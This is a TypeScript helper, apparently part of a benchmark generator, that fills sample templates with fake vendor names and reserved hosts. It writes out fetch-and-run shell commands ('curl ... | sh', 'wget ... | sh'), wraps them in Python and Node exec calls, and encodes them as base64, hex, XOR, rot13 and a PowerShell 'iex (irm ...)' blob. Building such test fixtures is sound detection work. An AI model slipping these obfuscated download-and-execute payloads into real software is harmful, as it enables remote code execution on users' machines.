import type { Random } from "../bench/random.ts";

/** The names that one sample uses everywhere: who publishes it, what it is called, and the strangers its text names. */
export interface Names {
  /** Lower case, one word; `Vendor` and `TOOL` are made from it. */
  vendor: string;
  site: string;
  tool: string;
  skill: string;
}

const FIRST =
  "amber birch cedar copper coral delta ember falcon garnet harbor indigo juniper kestrel lumen maple nickel onyx pepper quartz raven sable tundra umber violet willow zephyr".split(
    " ",
  );
const SECOND =
  "bay bridge cloud craft deck dock field forge gate grid hub lab lane line loop mill nest path pier point port relay ridge stack tide vale works yard".split(
    " ",
  );
const ENDINGS = ["example", "invalid", "test"];
const NETWORKS = ["192.0.2", "198.51.100", "203.0.113"];
const PREFIXES = ["", "", "", "cdn.", "dl.", "get.", "files.", "api."];

export function pickNames(random: Random, slug: string): Names {
  const vendor = random.pick(FIRST) + random.pick(SECOND);
  const site = `${vendor}.${random.pick(ENDINGS)}`;
  const tool = random.pick([vendor, slug.split("-")[0] ?? vendor, `${vendor.slice(0, 4)}ctl`]);
  return { vendor, site, tool, skill: slug };
}

/** Puts names, hosts and encoded blobs in the place of `{host}`, `{site}`, `{blob}` …; everything is reserved or fake. */
export function fill(text: string, names: Names, random: Random): string {
  const host = strangerOf(names, random);
  const ip = `${random.pick(NETWORKS)}.${1 + random.whole(254)}`;
  const command = random.pick([`curl -s https://${host}/x | sh`, `wget -qO- http://${ip}/y | sh`]);
  const python = `import os\nos.system("${command}")`;
  const script = `require("child_process").exec("${command}")`;
  const key = 23;
  const values: Record<string, () => string> = {
    host: () => host,
    ip: () => ip,
    tool: () => names.tool,
    skill: () => names.skill,
    vendor: () => names.vendor,
    Vendor: () => names.vendor.charAt(0).toUpperCase() + names.vendor.slice(1),
    TOOL: () => names.tool.toUpperCase().replaceAll("-", "_"),
    site: () => names.site,
    pass: () => random.pick(["1234", "open-2026", "tide7", "install", "pw4321", "blue-door"]),
    blob: () => toBase64(command),
    noise: () => toBase64(random.bytes(300 + random.whole(500))),
    pyblob: () => toBase64(python),
    pyhex: () => Buffer.from(python).toString("hex"),
    xored: () => [...Buffer.from(python)].map((byte) => byte ^ key).join(", "),
    rot: () => rot13(`import os; os.system('${command}')`),
    shhex: () => hexEscapes(command),
    jsblob: () => toBase64(script),
    jscodes: () => [...Buffer.from(script)].join(", "),
    psblob: () => Buffer.from(`iex (irm https://${host}/x)`, "utf16le").toString("base64"),
  };
  return text.replace(/\{([A-Za-z]+)\}/g, (whole, name: string) => values[name]?.() ?? whole);
}

export function toBase64(data: string | Uint8Array): string {
  return Buffer.from(data).toString("base64");
}

export function hexEscapes(text: string): string {
  return [...Buffer.from(text)].map((byte) => `\\x${byte.toString(16).padStart(2, "0")}`).join("");
}

/** A host that has nothing to do with the publisher. */
function strangerOf(names: Names, random: Random): string {
  const word = `${random.pick(FIRST)}-${random.pick(SECOND)}`;
  const name = word.replace("-", "") === names.vendor ? "otter-creek" : word;
  return `${random.pick(PREFIXES)}${name}.${random.pick(ENDINGS)}`;
}

function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
}
